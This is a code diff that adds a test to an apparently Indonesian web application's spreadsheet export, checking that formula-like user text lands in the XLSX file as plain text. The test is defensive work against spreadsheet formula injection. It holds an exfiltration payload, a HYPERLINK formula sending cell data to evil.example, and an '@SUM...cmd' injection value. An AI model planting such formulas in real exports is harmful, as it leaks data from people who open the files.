@@ -102,6 +102,25 @@ def test_xlsx_figures_are_ikm_compute_result(client, world):
     )
 
 
+def test_user_text_that_looks_like_a_formula_is_written_as_text(client, world):
+    seed(world)
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+    follow_up.add(
+        world.mall,
+        this_month(world),
+        actor=world.users["manager"],
+        element=9,
+        action=evil,
+        owner="@SUM(1+1)*cmd",
+        due="2030-12-31",
+    )
+    book = load_workbook(io.BytesIO(download(client, world, "manager", "xlsx", period="month").content))
+    cells = [cell for row in book["Tindak lanjut"].iter_rows() for cell in row if cell.value in (evil, "@SUM(1+1)*cmd")]
+    assert len(cells) == 2
+    assert all(cell.data_type == "s" for cell in cells)
+    assert not any(cell.data_type == "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
+
+
 def test_pdf_is_a_pdf_with_the_ikm_and_mutu(client, world):
     seed(world)
     period = this_month(world)
